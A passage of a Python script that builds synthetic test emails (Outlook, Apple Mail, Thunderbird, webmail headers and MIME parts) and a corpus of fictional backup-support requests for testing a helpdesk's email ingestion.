            f"by {g} with SMTP id {smtp_id}\n        for <support@desk.example>; {rfcdate(dt + timedelta(seconds=1), -420, two_digit_day=True, zone='PDT')}",
        ),
        (
            "DKIM-Signature",
            f"v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d={d_dom}; s={'google' if workspace else '20230601'}; t={int(dt.timestamp())}; x={int(dt.timestamp()) + 604800}; darn=desk.example;\n"
            f"        h=to:subject:message-id:date:from:mime-version:from:to:cc:subject\n         :date:message-id:reply-to;\n"
            f"        bh={an(seed + 'bh', 43)}=;\n        b={an(seed + 'b1', 70)}\n         {an(seed + 'b2', 70)}\n         {an(seed + 'b3', 70)}\n         {an(seed + 'b4', 70)}\n         {an(seed + 'b5', 52)}==",
        ),
        (
            "X-Google-DKIM-Signature",
            f"v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={int(dt.timestamp())}; x={int(dt.timestamp()) + 604800};\n"
            f"        h=to:subject:message-id:date:from:mime-version:x-gm-message-state\n         :from:to:cc:subject:date:message-id:reply-to;\n"
            f"        bh={an(seed + 'bh', 43)}=;\n        b={an(seed + 'c1', 70)}\n         {an(seed + 'c2', 70)}==",
        ),
        ("X-Gm-Message-State", f"AOJu0Y{an(seed + 'gms', 60)}\n\t{an(seed + 'gms2', 40)}=="),
        ("X-Gm-Gg", f"ASbGnc{an(seed + 'gg', 66)}\n\t{an(seed + 'gg2', 50)}"),
        ("X-Google-Smtp-Source", f"AGHT+IE{an(seed + 'src', 57)}=="),
        (
            "X-Received",
            f"by 2002:a05:651c:{hx(seed + 'xr', 4)}:b0:{hx(seed + 'xr2', 3)}:{hx(seed + 'xr3', 4)}:{hx(seed + 'xr4', 4)} with SMTP id\n"
            f" {smtp_id[:-2]}mr{num(seed + 'mr', 10000000, 99999999)}.{num(seed, 1, 40)}.{int(dt.timestamp())}{num(seed, 100, 999)}; {rfcdate(dt, -420, two_digit_day=True, zone='PDT')}",
        ),
        ("MIME-Version", "1.0"),
    ]
    if refs:
        top.append(("References", refs))
    if irt:
        top.append(("In-Reply-To", irt))
    top += [("From", addr(frm)), ("Date", rfcdate(dt, tz))]
    top += [("X-Gm-Features", f"AX0GCF{an(seed + 'feat', 40)}")]
    top += [
        ("Message-ID", msgid),
        ("Subject", subject if is_ascii(subject) else ew(subject, "UTF-8", "B", 20)),
        ("To", addrs(list(to))),
    ]
    if cc:
        top.append(("Cc", addrs(list(cc))))
    top += list(extra)
    top += [("__MIME__", "")]
    return message(top, node)


# --------------------------------------------------------------------------
# Apple Mail (macOS) and iPhone Mail

APPLE_VER = "3826.500.181.1.5"


def apple_html(text: str) -> str:
    lines = strip_ph(text).split("\n")
    h = "".join(
        f"<div>{html_escape(x)}</div>"
        if x.strip() and not x.startswith(">")
        else (
            "<div><br></div>"
            if not x.strip()
            else f'<blockquote type="cite"><div>{html_escape(x.lstrip("> "))}</div></blockquote>'
        )
        for x in lines
    )
    return (
        '<html aria-label="message body"><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>'
        '<body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">'
        f"{h}</body></html>"
    )


def apple(
    file: str,
    frm,
    subject: str,
    text: str,
    *,
    to=(SUPPORT,),
    cc=(),
    attachments=(),
    inline=(),
    irt: str | None = None,
    refs: str | None = None,
    dt: datetime | None = None,
    tz: int = 120,
    iphone: bool = False,
    rich: bool = True,
    extra=(),
):
    dt = dt or tick()
    seed = file
    dom = domain(frm)
    msgid = f"<{guid(seed + 'm')}@{dom}>"

    def bnd(tag):
        return f"Apple-Mail={'_' if not iphone else '-'}{guid(seed + tag)}"

    tp = Leaf(
        [
            (
                "Content-Transfer-Encoding",
                "quoted-printable"
                if not is_ascii(text) or iphone or max(map(len, text.split(chr(10)))) > 76
                else "7bit",
            ),
            (
                "Content-Type",
                "text/plain;\n\tcharset=utf-8" if not iphone else "text/plain;\n\tcharset=utf-8",
            ),
        ],
        qp(text)
        if not is_ascii(text) or iphone or max(map(len, text.split(chr(10)))) > 76
        else text,
    )
    if iphone and not attachments and not inline:
        node = tp
    elif not rich and attachments:
        parts = [tp]
        for n, ct, d in attachments:
            parts.append(
                Leaf(
                    [
                        (
                            "Content-Disposition",
                            f"attachment;\n\tfilename={n}"
                            if re.fullmatch(r"[\w.-]+", n)
                            else f'attachment;\n\tfilename="{n}"',
                        ),
                        ("Content-Type", f'{ct};\n\tx-unix-mode=0644;\n\tname="{n}"'),
                        ("Content-Transfer-Encoding", "base64"),
                    ],
                    b64(d),
                )
            )
        parts.append(
            Leaf(
                [
                    ("Content-Transfer-Encoding", "7bit"),
                    ("Content-Type", "text/plain;\n\tcharset=us-ascii"),
                ],
                "\n\n",
            )
        )
        node = Multi(
            [("Content-Type", f'multipart/mixed;\n\tboundary="{bnd("mix")}"')], bnd("mix"), parts
        )
    else:
        htm = apple_html(text)
        if attachments or inline:
            inner = [
                Leaf(
                    [
                        ("Content-Transfer-Encoding", "quoted-printable"),
                        ("Content-Type", "text/html;\n\tcharset=utf-8"),
                    ],
                    qp(htm),
                )
            ]
            for i, (n, ct, d) in enumerate(inline):
                cid = f"{guid(seed + 'cid' + str(i))}"
                inner[0] = Leaf(
                    inner[0].headers,
                    qp(
                        htm.replace(
                            "</body>",
                            f'<div><img apple-inline="yes" id="{guid(seed + "img" + str(i))}" src="cid:{cid}" alt="{html_escape(n)}"></div></body>',
                        )
                    ),
                )
                htm = htm.replace(
                    "</body>",
                    f'<div><img apple-inline="yes" id="{guid(seed + "img" + str(i))}" src="cid:{cid}" alt="{html_escape(n)}"></div></body>',
                )
                inner.append(
                    Leaf(
                        [
                            ("Content-Transfer-Encoding", "base64"),
                            ("Content-Disposition", f"inline;\n\tfilename={n}"),
                            ("Content-Type", f'{ct};\n\tx-unix-mode=0666;\n\tname="{n}"'),
                            ("Content-Id", f"<{cid}>"),
                        ],
                        b64(d),
                    )
                )
            if inline and not attachments:
                html_node = Multi(
                    [
                        (
                            "Content-Type",
                            f'multipart/related;\n\ttype="text/html";\n\tboundary="{bnd("rel")}"',
                        )
                    ],
                    bnd("rel"),
                    inner,
                )
            else:
                for n, ct, d in attachments:
                    inner.append(
                        Leaf(
                            [
                                (
                                    "Content-Disposition",
                                    f"attachment;\n\tfilename={n}"
                                    if re.fullmatch(r"[\w.-]+", n)
                                    else f'attachment;\n\tfilename="{n}"',
                                ),
                                ("Content-Type", f'{ct};\n\tx-unix-mode=0644;\n\tname="{n}"'),
                                ("Content-Transfer-Encoding", "base64"),
                            ],
                            b64(d),
                        )
                    )
                    inner.append(
                        Leaf(
                            [
                                ("Content-Transfer-Encoding", "7bit"),
                                ("Content-Type", "text/html;\n\tcharset=us-ascii"),
                            ],
                            '<html aria-label="message body"><head><meta http-equiv="content-type" content="text/html; charset=us-ascii"></head><body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;"><div></div></body></html>',
                        )
                    )
                html_node = Multi(
                    [("Content-Type", f'multipart/mixed;\n\tboundary="{bnd("mix")}"')],
                    bnd("mix"),
                    inner,
                )
            node = Multi(
                [("Content-Type", f'multipart/alternative;\n\tboundary="{bnd("alt")}"')],
                bnd("alt"),
                [tp, html_node],
            )
        else:
            hp = Leaf(
                [
                    ("Content-Transfer-Encoding", "quoted-printable"),
                    ("Content-Type", "text/html;\n\tcharset=utf-8"),
                ],
                qp(htm),
            )
            node = Multi(
                [("Content-Type", f'multipart/alternative;\n\tboundary="{bnd("alt")}"')],
                bnd("alt"),
                [tp, hp],
            )
    ip = f"17.58.{num(seed, 1, 120)}.{num(seed + 'z', 1, 250)}"
    relay = (
        f"ms{num(seed, 11, 99)}p00im-qufo{num(seed + 'q', 10, 99)}{num(seed, 1, 9)}01.me.com"
        if dom in ("icloud.com", "me.com")
        else f"mail.{dom}"
    )
    top = delivery_top(seed, frm[1], dt)
    top += [
        mx_received(
            seed, relay, ip if "me.com" in relay else f"198.51.100.{num(seed, 2, 250)}", dt
        ),
        auth_results(dom),
        (
            "Received",
            f"from smtpclient.apple ({'unknown' if iphone else 'mac-' + hx(seed, 4)}.lan [192.168.{num(seed, 0, 9)}.{num(seed + 'l', 2, 250)}])\n"
            f"\tby {relay} (Postfix) with ESMTPSA id {qid(seed + 'in')}\n\tfor <support@desk.example>; {rfcdate(dt, tz, pad=True)}",
        ),
    ]
    if iphone:
        top += [
            ("__MIME__", ""),
            ("From", addr(frm, "utf-8", "Q")),
            ("Mime-Version", "1.0 (1.0)"),
            ("Date", rfcdate(dt, tz)),
            ("Subject", subject if is_ascii(subject) else ew(subject, "utf-8", "Q", 16)),
            ("Message-Id", msgid),
        ]
        if refs:
            top.append(("References", refs))
        if cc:
            top.append(("Cc", addrs(list(cc))))
        if irt:
            top.append(("In-Reply-To", irt))
        top += [("To", addrs(list(to))), ("X-Mailer", "iPhone Mail (22E240)")]
    else:
        top += [
            ("From", addr(frm, "utf-8", "Q")),
            ("__MIME__", ""),
            ("Mime-Version", f"1.0 (Mac OS X Mail 16.0 \\({APPLE_VER}\\))"),
            ("Subject", subject if is_ascii(subject) else ew(subject, "utf-8", "Q", 16)),
        ]
        if irt:
            top.append(("In-Reply-To", irt))
        top += [("Date", rfcdate(dt, tz))]
        if cc:
            top.append(("Cc", addrs(list(cc))))
        if refs:
            top.append(("References", refs))
        top += [
            ("Message-Id", msgid),
            ("To", addrs(list(to))),
            ("X-Mailer", f"Apple Mail (2.{APPLE_VER})"),
        ]
    top += list(extra)
    return message(top, node)


# --------------------------------------------------------------------------
# Thunderbird and generic MUAs


def thunderbird(
    file: str,
    frm,
    subject: str,
    text: str,
    *,
    to=(SUPPORT,),
    cc=(),
    attachments=(),
    irt=None,
    refs=None,
    dt=None,
    tz=60,
    charset="UTF-8",
    extra=(),
    html: str | None = None,
    flowed=True,
    ua="Mozilla Thunderbird",
    cte=None,
    raw_body: str | None = None,
):
    dt = dt or tick()
    seed = file
    dom = domain(frm)
    msgid = f"<{guid(seed).lower()}@{dom}>"
    if raw_body is not None:
        body = raw_body
        cte = cte or "8bit"
    elif is_ascii(text):
        body, cte = text, cte or "7bit"
    else:
        cte = cte or "8bit"
        body = (
            raw8(text, charset)
            if cte == "8bit"
            else (qp(text, charset) if cte == "quoted-printable" else b64(text.encode(charset)))
        )
    tp = Leaf(
        [
            (
                "Content-Type",
                f"text/plain; charset={charset}" + ("; format=flowed" if flowed else ""),
            ),
            ("Content-Transfer-Encoding", cte),
        ],
        body,
    )
    node = tp
    if html is not None:
        b = "------------" + an(seed + "alt", 24)
        node = Multi(
            [("Content-Type", f'multipart/alternative;\n boundary="{b}"')],
            b,
            [
                tp,
                Leaf(
                    [
                        ("Content-Type", f"text/html; charset={charset}"),
                        ("Content-Transfer-Encoding", "7bit" if is_ascii(html) else "8bit"),
                    ],
                    html if is_ascii(html) else raw8(html, charset),
                ),
            ],
        )
    if attachments:
        b = "------------" + an(seed + "mix", 24)
        parts = [node]
        for n, ct, d in attachments:
            parts.append(
                Leaf(
                    [
                        ("Content-Type", f'{ct}; name="{n}"'),
                        ("Content-Disposition", f'attachment; filename="{n}"'),
                        ("Content-Transfer-Encoding", "base64"),
                    ],
                    b64(d),
                )
            )
        node = Multi(
            [("Content-Type", f'multipart/mixed; boundary="{b}"')],
            b,
            parts,
            preamble="This is a multi-part message in MIME format.\n",
        )
    ip = f"203.0.113.{num(seed, 2, 250)}"
    top = delivery_top(seed, frm[1], dt)
    top += [
        mx_received(seed, f"mail.{dom}", ip, dt),
        auth_results(dom, dkim=False, spf="pass", dmarc="none"),
        (
            "Received",
            f"from [192.168.{num(seed, 0, 9)}.{num(seed + 'l', 2, 250)}] (unknown [{ip}])\n\tby mail.{dom} (Postfix) with ESMTPSA id {qid(seed + 'o')}\n"
            f"\tfor <support@desk.example>; {rfcdate(dt, tz, pad=True)}",
        ),
        ("Message-ID", msgid),
        ("Date", rfcdate(dt, tz)),
        ("MIME-Version", "1.0"),
        ("User-Agent", ua),
        ("Content-Language", "en-US"),
    ]
    if refs:
        top.append(("References", refs))
    if irt:
        top.append(("In-Reply-To", irt))
    top += [("To", addrs(list(to)))]
    if cc:
        top.append(("Cc", addrs(list(cc))))
    top += [
        ("From", addr(frm)),
        ("Subject", subject if is_ascii(subject) else ew(subject, charset, "B", 18)),
    ]
    top += list(extra)
    top += [("__MIME__", "")]
    return message(top, node)


def plain_mua(
    file,
    frm,
    subject,
    body_lines,
    *,
    dt=None,
    tz=0,
    headers=(),
    mailer="Roundcube Webmail/1.6.9",
    msgid=True,
    to=(SUPPORT,),
    ctype="text/plain; charset=UTF-8; format=flowed",
    cte="7bit",
    body=None,
):
    """A minimal single-part message (webmail, scripts, old clients)."""
    dt = dt or tick()
    seed = file
    dom = domain(frm) if "@" in frm[1] else "unknown.example"
    top = delivery_top(seed, frm[1] if "@" in frm[1] else f"nobody@{dom}", dt)
    top += [mx_received(seed, f"mail.{dom}", f"192.0.2.{num(seed, 2, 250)}", dt)]
    top += list(headers)
    top += [("Date", rfcdate(dt, tz)), ("To", addrs(list(to)))]
    if frm is not None and frm[1]:
        top.append(("From", addr(frm)))
    top.append(("Subject", subject))
    if msgid:
        top.append(("Message-ID", f"<{hx(seed, 32)}@{dom}>"))
    top += [("MIME-Version", "1.0"), ("Content-Type", ctype), ("Content-Transfer-Encoding", cte)]
    if mailer:
        top.append(("User-Agent", mailer))
    b = body if body is not None else "\n".join(body_lines) + "\n"
    return render_headers(top) + "\n" + b


# --------------------------------------------------------------------------
# our own outbound acknowledgement, as quoted in bounces and replies


ACK_SUBJ = {
    "A": "Nightly backup of FS01 fails with VSS error",
    "B": "Restore of imaging share stops at 62%",
}
ACK_TO = {"A": IVAN, "B": ALICE}


def our_ack_headers(
    t: str = "A", msgid: str | None = None, to=None, dt: datetime | None = None
) -> list:
    dt = dt or datetime(2025, 6, 2, 6, 12, 40, tzinfo=UTC)
    to = to or ACK_TO[t]
    h = [
        (
            "Received",
            f"from app1.desk.example (app1.desk.example [10.20.0.11])\n\tby mx1.desk.example (Postfix) with ESMTP id {qid('ack' + t)}\n"
            f"\tfor <{to[1]}>; {rfcdate(dt, 0, pad=True, zone='UTC')}",
        ),
        ("Content-Type", 'text/plain; charset="utf-8"'),
        ("MIME-Version", "1.0"),
        ("Content-Transfer-Encoding", "7bit"),
        ("Subject", f"[{{{{NUMBER_{t}}}}}] {ACK_SUBJ[t]}"),
        ("From", "Infrascale Support <support@desk.example>"),
        ("To", addr(to)),
        ("Date", rfcdate(dt, 0)),
        ("Message-ID", f"<{msgid or '{{MSGID_' + t + '}}'}>"),
        ("Auto-Submitted", "auto-replied"),
    ]
    if t == "A":
        h.insert(6, ("Reply-To", "{{REPLY_TO_A}}"))
    return h


def our_ack_body(t: str = "A") -> str:
    return (
        f"Hello {ACK_TO[t][0].split()[0]},\n\nThanks for contacting Infrascale Support. Your request\n"
        f"has been received and assigned the number {{{{NUMBER_{t}}}}}.\n\n"
        "An engineer will get back to you shortly. To add information,\n"
        "simply reply to this message.\n\n-- \nInfrascale Support\n"
    )


def ack_quote_outlook(t: str, sent: str = "Monday, June 2, 2025 8:12 AM") -> str:
    return (
        "\n________________________________\n"
        "From: Infrascale Support <support@desk.example>\n"
        f"Sent: {sent}\nTo: {addr(ACK_TO[t])}\n"
        f"Subject: [{{{{NUMBER_{t}}}}}] {ACK_SUBJ[t]}\n\n"
        f"Hello {ACK_TO[t][0].split()[0]},\n\nThanks for contacting Infrascale Support. Your request\n"
        f"has been received and assigned the number {{{{NUMBER_{t}}}}}.\n"
    )


def ack_quote_gmail(t: str, when: str = "Mon, Jun 2, 2025 at 8:12 AM") -> str:
    return (
        f"\nOn {when} Infrascale Support <support@desk.example> wrote:\n\n"
        f"> Hello {ACK_TO[t][0].split()[0]},\n>\n> Thanks for contacting Infrascale Support. Your request\n"
        f"> has been received and assigned the number {{{{NUMBER_{t}}}}}.\n>\n"
    )


def msgid_ref(t: str) -> str:
    return f"<{{{{MSGID_{t}}}}}>"


def of(file: str) -> str:
    return f"<{{{{MSGID_OF:{file}}}}}>"


def num_of(file: str) -> str:
    return f"{{{{NUMBER_OF:{file}}}}}"


def foreign_id(seed: str) -> str:
    return f"<CA{an(seed + 'foreign', 44)}@mail.gmail.com>"


# ==========================================================================
# the corpus, in ingestion order
# ==========================================================================

SIG = {
    "ivan": "\nIvan Initech\nSystems Administrator | Initech\n+1 555 0142\n",
    "alice": "\nAlice Acme\nPractice Manager, Acme Dental\n",
    "nora": "\nNora Northwind\nService Desk Technician\nNorthwind IT - Managed Services\n",
    "erin": "\nErin Engineer\nSupport Engineer, Infrascale\n",
    "gina": "\nGina Globex\nOffice IT, Globex Clinic\n",
}
LOG = ("text/plain",)


def outlook_folder() -> None:
    f = "outlook/new-01.eml"
    add(
        f,
        outlook(
            f,
            IVAN,
            "Nightly backup job fails with VSS error 0x800423F4",
            "Hello,\n\nSince Saturday the nightly image backup of SQL02 fails after about\n"
            "20 minutes. The job log shows:\n\n"
            "  VSS error 0x800423F4 - the writer experienced a non-transient error\n"
            "  Writer: SqlServerWriter, state: [8] Failed\n\n"
            "vssadmin list writers shows the SQL writer as Stable after a reboot,\n"
            "but the next run fails again. Agent version is 8.6.2.\n\n"
            "Can you help?\n\nThanks," + SIG["ivan"],
        ),
        "created",
        "Outlook (Exchange Online) new request, multipart/alternative, Thread-Index, quoted-printable HTML",
    )

    f = "outlook/new-02.eml"
    add(
        f,
        outlook(
            f,
            ALICE,
            "Restore of Exchange mailbox hangs at 45%",
            "Hi support,\n\nI'm trying to restore the mailbox of one of our hygienists from\n"
            "last Thursday's backup. The restore wizard stops at 45% and never\n"
            "moves on. I've attached the restore log from the appliance.\n\n"
            "Regards," + SIG["alice"],
            attachments=[
                ("restore_20250602.log", "text/plain", agent_log(f, 24, "MAPI_E_NETWORK_ERROR"))
            ],
        ),
        "created",
        "Outlook new request with one text attachment",
        attachments=1,
    )

    f = "outlook/new-03.eml"
    add(
        f,
        outlook(
            f,
            NORA,
            "Agent install fails on Server 2022 (Acme Dental)",
            "Hello Infrascale,\n\nOn behalf of our client Acme Dental: the backup agent MSI rolls\n"
            "back on a fresh Windows Server 2022 host with error 1603. Screenshot\n"
            "of the installer below, MSI verbose log attached.\n\n"
            "Best regards," + SIG["nora"],
            inline=[("image001.png", "image/png", png(f))],
            attachments=[
                ("msiexec_verbose.log", "text/plain", agent_log(f + "msi", 30, "1603 ROLLBACK"))
            ],
        ),
        "created",
        "Outlook, partner technician opens a ticket; one inline screenshot plus one attachment",
        attachments=1,
        inline_images=1,
    )

    f = "outlook/new-04.eml"
    add(
        f,
        outlook(
            f,
            BOB,
            "Cloud replication stuck in 'Pending' for 3 days",
            "Hello,\n\nWe are evaluating your appliance. Cloud replication to the EU-West\n"
            "datacenter has shown 'Pending' for three days; nothing was uploaded.\n"
            "Outbound 443 is open on the firewall.\n\nBob Builder\nUnknown Corp\n",
            tz=-300,
        ),
        "created",
        "Outlook mail from an unknown sender goes to the catch-all company",
    )

    f = "outlook/new-05.eml"
    add(
        f,
        outlook(
            f,
            ("Nina Newhire", "newhire@initech.example"),
            "Appliance storage at 95% - retention not purging",
            "Hi,\n\nI took over backups from Ivan this week. The appliance dashboard shows\n"
            "95% storage used although retention is set to 14 days. Old restore\n"
            "points from March are still listed. Should the purge job not remove them?\n\n"
            "Thanks,\nNina\n",
        ),
        "created",
        "Outlook, sender at a company domain who is not a user maps to that company (Initech)",
    )

    f = "outlook/new-06.eml"
    add(
        f,
        outlook(
            f,
            IVAN,
            "URGENT!!! Sev1 - backup server down, no backups since last night",
            "URGENT\n\nOur backup server BKP01 does not boot after the Windows update.\n"
            "No backups have run since last night. Please call me asap.\n" + SIG["ivan"],
            importance="high",
        ),
        "created",
        "Shouting Sev1 subject with Importance: high; the ticket still opens at the default Sev3",
        severity=3,
    )

    f = "outlook/reply-a-01.eml"
    add(
        f,
        outlook(
            f,
            IVAN,
            f"RE: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "Hi,\n\nAdditional info: the failure started right after we installed\n"
            "SQL Server 2022 CU14 on FS01. The SQL VSS writer logs event 8229.\n"
            + SIG["ivan"]
            + ack_quote_outlook("A"),
            irt=msgid_ref("A"),
            refs=msgid_ref("A"),
        ),
        "appended",
        "Outlook reply by the requester, In-Reply-To and References carry our id",
        ticket="A",
    )

    f = "outlook/reply-a-02.eml"
    add(
        f,
        outlook(
            f,
            ERIN,
            f"RE: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "Hi Ivan,\n\nThanks for the details. CU14 is known to register the SQL writer\n"
            "twice. Please run 'vssadmin list writers' and send us the output.\n"
            + SIG["erin"]
            + ack_quote_outlook("A"),
            irt=msgid_ref("A"),
            refs=msgid_ref("A"),
            ti_depth=1,
        ),
        "appended",
        "Vendor engineer replies by mail from Outlook",
        ticket="A",
    )

    f = "outlook/reply-b-01.eml"
    add(
        f,
        outlook(
            f,
            ALICE,
            f"RE: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}",
            "Hello,\n\nHere is the screenshot of the error the restore shows at 62%.\n"
            "It always stops on the same folder (2019 x-rays).\n"
            + SIG["alice"]
            + ack_quote_outlook("B"),
            irt=msgid_ref("B"),
            refs=msgid_ref("B"),
            attachments=[("restore-error.png", "image/png", png(f, 64, 32))],
        ),
        "appended",
        "Outlook reply by requester with an image sent as a regular attachment",
        ticket="B",
        attachments=1,
    )

    f = "outlook/reply-b-02.eml"
    add(
        f,
        outlook(
            f,
            NORA,
            f"RE: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}",
            "Hi,\n\nNorthwind here, we manage Acme's environment. The share lives on\n"
            "a Synology NAS mounted over SMB 2.1. Could that explain the stop?\n"
            + SIG["nora"]
            + ack_quote_outlook("B"),
            irt=msgid_ref("B"),
            refs=msgid_ref("B"),
            cc=[ALICE],
        ),
        "appended",
        "Partner technician of the ticket's company replies (participant via partner)",
        ticket="B",
    )

    f = "outlook/reply-b-03.eml"
    add(
        f,
        outlook(
            f,
            NATE,
            f"RE: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}",
            "Hello,\n\nAdding myself to this one, please keep me posted - this is\n"
            "the second restore issue at Acme this quarter.\n\nNate\nNorthwind IT\n"
            + ack_quote_outlook("B"),
            irt=msgid_ref("B"),
            refs=msgid_ref("B"),
            cc=[NORA],
        ),
        "appended",
        "Partner admin (another Northwind person) replies on B",
        ticket="B",
    )

    f = "outlook/fw-01.eml"
    add(
        f,
        outlook(
            f,
            IVAN,
            "FW: Backup job 'SQL-Daily' failed on SQL02",
            "FYI - this is the alert we got this morning. Same VSS issue as\n"
            "before but now on a different server.\n"
            + SIG["ivan"]
            + "\n________________________________\nFrom: IDR Appliance <idr-alerts@initech.example>\n"
            "Sent: Monday, June 2, 2025 4:02 AM\nTo: IT Operations <itops@initech.example>\n"
            "Subject: Backup job 'SQL-Daily' failed on SQL02\n\n"
            "Job: SQL-Daily\nHost: SQL02\nStatus: Failed\nError: VSS_E_WRITERERROR_TIMEOUT\n"
            "Duration: 00:19:44\n",
        ),
        "created",
        "Outlook inline forward (FW:) of an appliance alert; the forward itself is human mail",
    )

    f = "outlook/new-07.eml"
    add(
        f,
        outlook(
            f,
            GINA,
            "Restore point missing after agent upgrade",
            "Hello,\n\nAfter upgrading the agent to 8.6 on our reception PC, the restore\n"
            "point list only starts at yesterday. Where did the older ones go?\n\nSent from Outlook for iOS\n",
            plain=True,
        ),
        "created",
        "Outlook for iOS (no X-Mailer, Exchange Online headers) from a Globex user",
    )

    f = "outlook/new-08.eml"
    add(
        f,
        outlook(
            f,
            IVAN,
            "Boot verification screenshots show blue screen",
            "Hello,\n\nThe boot verification for DC01 and DC02 shows a blue screen\n"
            "(INACCESSIBLE_BOOT_DEVICE) in the screenshot. Logs, the job export\n"
            "and the screenshot are attached.\n" + SIG["ivan"],
            attachments=[
                (
                    "bootverify-logs.zip",
                    "application/x-zip-compressed",
                    zipped(
                        f, {"bv_DC01.log": agent_log(f + "1"), "bv_DC02.log": agent_log(f + "2")}
                    ),
                ),
                (
                    "jobs.csv",
                    "text/csv",
                    b"job,host,status,started\r\nDC-Image,DC01,Failed,2025-06-01 23:00\r\nDC-Image,DC02,Failed,2025-06-01 23:30\r\n",
                ),
                ("DC01_bootverify.png", "image/png", png(f + "bsod", 80, 45)),
            ],
            onprem=True,
            mailer=True,
        ),
        "created",
        "Outlook 2016 against on-prem Exchange (X-Mailer), three attachments: zip, csv, png",
        attachments=3,
    )

    f = "outlook/new-09.eml"
    add(
        f,
        outlook(
            f,
            ALICE,
            "Cannot open the restore browser",
            "Hi,\n\nWhen I click 'Browse files' on the appliance web UI I get the\n"
            "screen below. Tried Edge and Chrome.\n" + SIG["alice"],
            inline=[("image001.png", "image/png", png(f, 48, 30))],
        ),
        "created",
        "Outlook multipart/related with one cid-referenced inline image, no other attachment",
        inline_images=1,
        attachments=0,
    )

    f = "outlook/new-10.eml"
    add(
        f,
        outlook(
            f,
            ("Ren\u00e9 M\u00fcller", "rene.mueller@unknown-corp.example"),
            "Replikation \u00fcber Nacht abgebrochen",
            'Guten Tag,\n\ndie Cloud-Replikation ist heute Nacht um 02:14 mit "Connection reset"\n'
            'abgebrochen. Der Job zeigt "Teilweise erfolgreich". M\u00fcssen wir etwas tun?\n\n'
            "Mit freundlichen Gr\u00fc\u00dfen\nRen\u00e9 M\u00fcller\n",
            charset="iso-8859-1",
            lang="de-DE",
        ),
        "created",
        "Outlook in German, iso-8859-1 QP body and RFC 2047 subject and display name",
    )

    f = "outlook/reply-a-03.eml"
    add(
        f,
        outlook(
            f,
            IVAN,
            f"AW: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "Hallo,\n\nhere is the vssadmin output you asked for:\n\n"
            "Writer name: 'SqlServerWriter'\n   State: [8] Failed\n   Last error: Non-retryable error\n"
            + SIG["ivan"]
            + ack_quote_outlook("A"),
            irt=msgid_ref("A"),
            refs=msgid_ref("A"),
            ti_depth=2,
            lang="de-DE",
        ),
        "appended",
        "Outlook with a German 'AW:' reply prefix",
        ticket="A",
    )

    f = "outlook/new-11.eml"
    add(
        f,
        outlook(
            f,
            GINA,
            "Backup Copy job to cloud failing with error 1450",
            "Hi,\n\nThe backup copy job to the cloud fails every night with\n"
            "'Insufficient system resources exist to complete the requested\n"
            "service (1450)'. The server has 32 GB RAM and is mostly idle.\n" + SIG["gina"],
        ),
        "created",
        "Outlook new request from Globex Clinic's user",
    )

    f = "outlook/new-12.eml"
    add(
        f,
        outlook(
            f,
            CARL,
            "Globex Clinic - licence count wrong after migration",
            "Hello,\n\nAfter we moved Globex Clinic to the new appliance, the portal\n"
            "shows 4 protected servers but the licence says 6 are in use.\n\nCarl\nContoso MSP\n",
        ),
        "created",
        "Outlook new request from a partner technician (Contoso)",
    )

    f = "outlook/reply-new-01.eml"
    add(
        f,
        outlook(
            f,
            IVAN,
            "RE: Nightly backup job fails with VSS error 0x800423F4",
            "Hi,\n\nQuick update: the job ran fine last night after we restarted the\n"
            "SQL VSS Writer service. Leaving this open to see if it holds.\n" + SIG["ivan"],
            irt=of("outlook/new-01.eml"),
            refs=of("outlook/new-01.eml"),
            ti_depth=1,
        ),
        "appended",
        "Reply to the acknowledgement of a ticket created earlier in this batch",
        ticket="@outlook/new-01.eml",
    )

    f = "outlook/new-13.eml"
    add(
        f,
        outlook(
            f,
            IVAN,
            "Question about retention for monthly restore points",
            "Hi,\n\nIs it possible to keep one restore point per month for 7 years\n"
            "while keeping the daily ones for 30 days? Our auditor asks for it.\n" + SIG["ivan"],
            plain=False,
        ),
        "created",
        "Outlook configured for HTML only (no text/plain alternative)",
    )

    f = "outlook/reply-b-04.eml"
    add(
        f,
        outlook(
            f,
            ("Alice Acme", "Alice@Acme.example"),
            f"RE: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}",
            "Forgot to say: the NAS was restarted on Friday, maybe related.\n"
            + SIG["alice"]
            + ack_quote_outlook("B"),
            irt=msgid_ref("B"),
            refs=msgid_ref("B"),
            ti_depth=1,
        ),
        "appended",
        "Requester's address in mixed case still matches",
        ticket="B",
    )


def winmail_folder() -> None:
    f = "winmail/tnef-01.eml"
    body = (
        "Hello,\n\nAttached are the agent log and the VSS writer list from FS02.\n"
        "The backup fails the same way as on FS01.\n" + SIG["ivan"]
    )
    add(
        f,
        outlook(
            f,
            IVAN,
            "Agent logs from FS02",
            body,
            plain=False,
            html=outlook_html(body, "us-ascii"),
            tnef=tnef_blob(
                f,
                "Agent logs from FS02",
                body,
                [
                    ("agent.log", agent_log(f), "text/plain"),
                    (
                        "vss_writers.txt",
                        b"Writer name: 'SqlServerWriter'\r\n   State: [8] Failed\r\n",
                        "text/plain",
                    ),
                ],
            ),
            onprem=True,
            mailer=True,
        ),
        "created",
        "Outlook with rich text: attachments only inside winmail.dat (TNEF, 2 files)",
        attachments=2,
    )

    f = "winmail/tnef-02.eml"
    body = (
        "Hi,\n\nThe restore log you asked for is attached.\n"
        + SIG["alice"]
        + ack_quote_outlook("B")
    )
    add(
        f,
        outlook(
            f,
            ALICE,
            f"RE: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}",
            body,
            irt=msgid_ref("B"),
            refs=msgid_ref("B"),
            onprem=True,
            mailer=True,
            tnef=tnef_blob(
                f,
                "RE: " + ACK_SUBJ["B"],
                strip_ph(body),
                [("restore-62pct.log", agent_log(f, 12, "ERROR_SHARING_VIOLATION"), "text/plain")],
            ),
        ),
        "appended",
        "Reply on B whose only attachment is inside winmail.dat",
        ticket="B",
        attachments=1,
    )

    f = "winmail/tnef-03.eml"
    body = "Hello,\n\nPlease send us a quote for 10 TB of cloud storage.\n\nBob Builder\n"
    add(
